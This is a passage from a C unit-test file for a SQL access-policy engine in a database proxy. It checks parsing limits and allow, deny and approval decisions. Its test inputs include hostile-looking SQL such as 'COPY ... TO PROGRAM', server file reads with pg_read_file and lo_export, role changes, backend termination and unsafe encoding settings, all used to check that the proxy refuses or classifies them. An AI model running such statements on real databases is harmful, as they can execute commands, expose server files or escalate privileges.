	free(q);
	q = repeat("select 1 ", "union select nextval('s') ", 20000, "", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_stmt_at(sql, 0)->classes == (RD | WR),
	    "a write 20000 set operations deep is found");
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
	q = repeat("select 1", "::text", 2000, "", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK,
	    "2000 casts, parsed inline");
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
	/* A left-deep chain as long as a query can be: refused as too large
	 * to check, or parsed; never a crash. */
	q = repeat("select ", "1+", (HOOP_SQL_MAX_QUERY - 8) / 2, "1", &len);
	err = hoop_sql_parse(q, len, &sql, why, sizeof(why));
	ok((err == HOOP_ERR_TOOBIG && sql == NULL) || (err == HOOP_OK &&
	    hoop_sql_stmt_at(sql, 0)->classes == RD),
	    "deepest possible chain: %s", err == HOOP_OK ? "parsed" : why);
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
}

static void
expect(const char *identity, const char *target, const char *sql,
    enum hoop_rule_action want, const char *rule, const char *reason,
    const char *name)
{
	struct hoop_sql_decision d;
	enum hoop_rule_action got;

	got = decide(identity, target, sql, &d);
	if (!ok(got == want && (rule == NULL ? d.d.rule == NULL :
	    d.d.rule != NULL && strcmp(d.d.rule->name, rule) == 0) &&
	    strstr(d.d.reason, reason) != NULL, "%s", name))
		printf("#   action %d want %d, rule %s, reason \"%s\"\n", got,
		    want, d.d.rule != NULL ? d.d.rule->name : "(none)",
		    d.d.reason);
}

#define ALLOW	HOOP_ACTION_ALLOW
#define DENY	HOOP_ACTION_DENY
#define APPROVE	HOOP_ACTION_APPROVE

static void
test_decisions(void)
{
	struct hoop_sql_decision d;
	struct hoop_principal p;
	hoop_sql_t *sql = NULL;
	char why[256];

	expect("ro", "db", "select 1", ALLOW, "read", "allowed by rule read",
	    "read allowed");
	expect("ro", "db", "delete from t", DENY, NULL,
	    "write: no rule allows it", "write: nothing allows it");
	expect("ro", "db", "with x as (delete from t returning *) select 1",
	    DENY, NULL, "write", "allowing read allows no write inside it");
	expect("ro", "other", "select 1", DENY, NULL, "no rule allows it",
	    "a policy for another target says nothing");
	expect("ro", "db", "select pg_terminate_backend(1)", DENY, NULL,
	    "function pg_terminate_backend (admin): no rule allows it",
	    "dangerous function: its class is not allowed");
	expect("ro", "db", "select lower('A')", ALLOW, "read", "",
	    "a function outside the table adds nothing");

	/* A rule naming a dangerous function stands in for its class. */
	expect("help", "db", "select pg_cancel_backend(1)", ALLOW, "read", "",
	    "helpdesk may cancel (named with pg_catalog. in the rule)");
	expect("help", "db", "select pg_catalog.pg_cancel_backend(1)", ALLOW,
	    "read", "", "pg_catalog. in the call too");
	expect("help", "db", "select other.pg_cancel_backend(1)", DENY, NULL,
	    "admin", "an allow rule does not cover another schema");
	expect("help", "db", "select pg_terminate_backend(1)", DENY, NULL,
	    "admin", "terminating is still refused");
	expect("help", "db", "select nextval('s')", APPROVE, "seq", "nextval",
	    "approve rule on a function");
	/* ...but never for classes the arguments gave. */
	expect("help", "db", "select set_config('role', 'x', false)", DENY,
	    NULL, "dcl: no rule allows it",
	    "allowing set_config does not allow role changes");
	expect("help", "db", "select set_config('work_mem', '1MB', false)",
	    ALLOW, "read", "", "allowing set_config allows settings");

	/* A class deny wins over a function allow. */
	expect("analyst", "db", "select pg_cancel_backend(1)", DENY,
	    "nothing-else", "analysts read",
	    "deny of admin beats the function allow");
	expect("analyst", "db", "set search_path = x", ALLOW, "read", "",
	    "analysts may set");
	expect("analyst", "db", "set role admin", DENY, "nothing-else",
	    "dcl: analysts read", "analysts may not change role");
	expect("analyst", "db", "select 1 for update", DENY, "nothing-else",
	    "write", "row locks are writes");

	/* Function denies, in any schema. */
	expect("dba", "db", "select pg_read_file('x')", DENY, "files",
	    "function pg_read_file: no server files",
	    "deny rule on a function");
	expect("dba", "db", "select evil.pg_read_file('x')", DENY, "files",
	    "no server files", "a deny rule matches any schema");
	expect("dba", "db", "select pg_catalog.lo_export(1, 'x')", DENY,
	    "files", "no server files", "pg_catalog. call, bare rule name");
	expect("dba", "db", "select pg_terminate_backend(1)", ALLOW, "work",
	    "", "admin allowed: terminate allowed by its class");
	expect("dba", "db", "vacuum t", ALLOW, "work", "", "dba vacuums");
	expect("dba", "db", "grant select on t to x", APPROVE, "roles", "dcl",
	    "grants need approval");
	expect("dba", "db", "do $$ begin end $$", DENY, NULL, "call",
	    "no rule for call");
	expect("dba", "db", "execute p", DENY, NULL, "unknown",
	    "unknown needs a rule of its own");

	/* Flags the proxy must refuse whatever the rules. */
	expect("all", "db", "set standard_conforming_strings = off", DENY,
	    NULL, "standard_conforming_strings",
	    "scs off refused even when everything is allowed");
	expect("all", "db", "select set_config('client_encoding', 'BIG5', "
	    "false)", DENY, NULL, "client_encoding",
	    "unsafe client encoding refused");
	expect("all", "db", "copy t to program 'id'", ALLOW, "all", "",
	    "everything allowed: COPY PROGRAM too");

	/* Several approve rules at once: all listed. */
	if (decide("mig", "db", "create table x as select 1", &d) == APPROVE) {
		ok(d.n_approve_rules == 2 &&
		    strcmp(d.approve_rules[0]->name, "write") == 0 &&
		    strcmp(d.approve_rules[1]->name, "ddl") == 0 &&
		    strcmp(d.d.rule->name, "write") == 0,
		    "both approve rules listed");
	} else {
		ok(0, "CREATE TABLE AS needs approval");
	}
	ok(decide("mig", "db", "select 1", &d) == ALLOW &&
	    d.n_approve_rules == 0, "no approve rules for an allow");
	expect("mig", "db", "truncate t", APPROVE, "write", "write",
	    "truncate needs the write and ddl approvals");
	expect("mig", "db", "create table x as select nextval('s') from "
	    "pg_read_file('x')", DENY, NULL, "admin",
	    "a deny anywhere beats the approvals");

	/* Missing pieces are refusals. */
	principal(&p, "all");
	ok(hoop_sql_parse("select 1", 8, &sql, why, sizeof(why)) == HOOP_OK,
	    "parsed");
	hoop_sql_decide(cfg, &p, NULL, hoop_sql_stmt_at(sql, 0), &d);
	ok(d.d.action == DENY, "no target: deny");
	hoop_sql_decide(cfg, &p, "db", NULL, &d);
	ok(d.d.action == DENY, "no statement: deny");
	hoop_sql_decide(NULL, &p, "db", hoop_sql_stmt_at(sql, 0), &d);
	ok(d.d.action == DENY, "no configuration: deny");
	p.identity = NULL;
	hoop_sql_decide(cfg, &p, "db", hoop_sql_stmt_at(sql, 0), &d);
	ok(d.d.action == DENY, "principal without identity: deny");
	hoop_sql_free(sql);
}

static void
test_names(void)
{
	char buf[64];

	ok(strcmp(hoop_sql_class_name(HOOP_SQL_READ), "read") == 0 &&
	    strcmp(hoop_sql_class_name(HOOP_SQL_UNKNOWN), "unknown") == 0 &&
	    hoop_sql_class_name(RD | WR) == NULL &&
	    hoop_sql_class_name(0) == NULL && hoop_sql_class_name(1u << 10) ==
	    NULL, "class names");
	hoop_sql_classes_format(RD | WR | UNK, buf, sizeof(buf));
	ok(strcmp(buf, "read,write,unknown") == 0, "classes formatted");
	hoop_sql_classes_format(RD | WR | UNK, buf, 8);
	ok(strcmp(buf, "read") == 0, "cut at a whole name");
	hoop_sql_classes_format(0, buf, sizeof(buf));
	ok(buf[0] == '\0', "no classes: empty");
}

int
main(void)
{
	if (hoop_config_load_buf(conf, sizeof(conf) - 1, "sql.conf",
	    HOOP_CONFIG_NO_FS_CHECKS, &cfg, NULL, NULL) != HOOP_OK) {
		printf("Bail out! test configuration does not load\n");
		return 1;
	}
	test_cases();
	test_statements();
	test_hostile();
	test_decisions();
	test_names();
	hoop_config_free(cfg);
	return done_testing();
}
